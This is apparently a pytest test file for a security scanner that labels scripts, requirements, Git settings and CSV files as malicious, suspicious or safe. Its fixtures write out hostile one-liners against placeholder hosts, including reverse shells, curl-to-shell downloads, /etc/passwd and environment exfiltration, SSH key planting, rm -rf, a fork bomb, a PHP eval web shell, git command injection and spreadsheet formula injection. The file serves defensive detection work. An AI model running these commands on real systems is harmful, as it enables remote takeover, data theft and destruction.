"""Shell, PowerShell, batch, web scripts, requirements, Git settings and tables."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import findings_of, rules_of, verdict_of_text

HOSTILE = [
    ("a.sh", "curl -s http://x.invalid/a | sudo bash"),
    ("a.sh", "wget -qO- http://x.invalid/a | python3 -"),
    ("a.sh", 'bash -c "$(curl -fsSL http://x.invalid/a)"'),
    ("a.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("a.sh", "nc 10.0.0.1 4444 -e /bin/sh "),
    ("a.sh", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x.invalid 1 > /tmp/f"),
    ("a.sh", "echo aWQ= | base64 -d | sh"),
    ("a.sh", 'eval "$(echo aWQ= | base64 -d)"'),
    ("a.sh", "curl \\\n  http://x.invalid/a \\\n  | sh"),
    ("a.sh", "echo key >> ~/.ssh/authorized_keys"),
    ("a.sh", "rm -rf ~/"),
    ("a.sh", ":(){ :|:& };:"),
    ("a.sh", "curl -d @/etc/passwd http://x.invalid"),
    ("a.sh", "env | curl -X POST --data-binary @- http://x.invalid"),
    ("a.sh", "curl http://x.invalid/miner -o miner\nchmod +x miner\n./miner"),
    ("Dockerfile", "FROM x\nRUN curl http://x.invalid/a | sh"),
    ("Makefile", "all:\n\tcurl http://x.invalid/a | sh"),
    ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')"),
    ("a.ps1", "powershell -NoP -EncodedCommand ZQBjAGgAbwA="),
    ("a.bat", "certutil -urlcache -f http://x.invalid/a a.exe"),
    ("a.bat", "powershell -w hidden -c x"),
    ("a.php", "<?php eval(base64_decode($_POST['x']));"),
    ("x.vbs", 'CreateObject("WScript.Shell").Run "curl http://x.invalid | sh"'),
]
SAFE = [
    (
        "a.sh",
        "#!/bin/bash\nset -e\ncurl -L -o model.bin https://huggingface.co/org/m/resolve/main/model.bin\nrm -rf ./build\n",
    ),
    ("a.sh", "curl -fsSL https://ollama.com/install.sh | sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    ("a.sh", "wget https://repo.anaconda.com/Miniconda3.sh\nbash Miniconda3.sh -b\necho 'export X=1' >> ~/.bashrc\n"),
    ("a.sh", "# curl http://x.invalid | sh\npython train.py --lr 1e-4 | tee log.txt\nchmod +x run.sh\n./run.sh\n"),
    ("Dockerfile", 'FROM python:3.11\nRUN pip install torch && apt-get update\nCMD ["python", "app.py"]\n'),
    ("a.js", "const x = require('fs'); document.getElementById('a').onclick = () => fetch('/api');\n"),
    ("a.bat", "@echo off\nREM start\npython webui.py %*\npause\n"),
    (".gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"),
    ("requirements.txt", "torch>=2.1\ntransformers[torch]==4.40 ; python_version > '3.8'\n-r other.txt\n"),
    (
        "requirements.txt",
        "--extra-index-url https://download.pytorch.org/whl/cu118\ngit+https://github.com/huggingface/peft\n",
    ),
    ("model.pth", "src\nother\n"),
    ("data.csv", 'text,label\n"=1+1",0\n-5,1\n@somebody hello,1\n'),
]
SUSPICIOUS = [
    ("requirements.txt", "torch\ngit+https://github.com/nobody/x", "requirements.direct"),
    ("requirements.txt", "a @ https://x.invalid/a.whl", "requirements.direct"),
    ("requirements.txt", "--extra-index-url https://x.invalid/simple", "requirements.index"),
    (".gitattributes", "* filter=evil", "git.runs-program"),
    (".git/config", "[core]\n\tfsmonitor = ./x.sh", "git.runs-program"),
    (".gitmodules", '[submodule "x"]\n\turl = ext::sh -c id', "git.runs-program"),
    (".npmrc", "registry=https://x.invalid/", "requirements.index"),
    ("a.js", "eval(atob('YQ=='))", "source.runs-decoded"),
    ("x.desktop", "[Desktop Entry]\nExec=./a", "script.clickable"),
    ("a.js", "const c = require('child_process'); c.exec('id')", "script.runs-program"),
    ("data.csv", "a,b\n=cmd|' /C calc'!A0,1", "table.formula"),
    ("data.csv", 'a,b\n1,"=HYPERLINK(""http://x.invalid"")"', "table.formula"),
    ("README.md", "#!/bin/sh\nid\n", "text.disguised-program"),
]


@pytest.mark.parametrize(("name", "text"), HOSTILE)
def test_hostile_commands_are_malicious(name: str, text: str) -> None:
    assert verdict_of_text(name, text + "\n") is Verdict.MALICIOUS


@pytest.mark.parametrize(("name", "text", "rule"), SUSPICIOUS)
def test_what_reaches_elsewhere_is_suspicious(name: str, text: str, rule: str) -> None:
    assert rule in rules_of(name, text)
    assert verdict_of_text(name, text) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(("name", "text"), SAFE)
def test_ordinary_scripts_are_safe(name: str, text: str) -> None:
    assert findings_of(name, text) == []


@pytest.mark.parametrize(
    ("line", "verdict"),
    [
        ("import os; os.system('echo budmodel-corpus')", Verdict.MALICIOUS),
        ("import socket; socket.create_connection(('x.invalid', 1))", Verdict.MALICIOUS),
        ("import os; os.getpid()", Verdict.SUSPICIOUS),
        ("import sys; exec('import coverage; coverage.process_startup()')", Verdict.SUSPICIOUS),
        ("../elsewhere", Verdict.SUSPICIOUS),
        ("src", Verdict.SAFE),
    ],
)
def test_a_pth_file_that_imports_runs_at_every_start(line: str, verdict: Verdict) -> None:
    assert verdict_of_text("x.pth", f"{line}\n") is verdict


def test_a_shell_script_is_recognized_by_its_first_line() -> None:
    assert verdict_of_text("install", "#!/usr/bin/env bash\ncurl http://x.invalid | sh\n") is Verdict.MALICIOUS
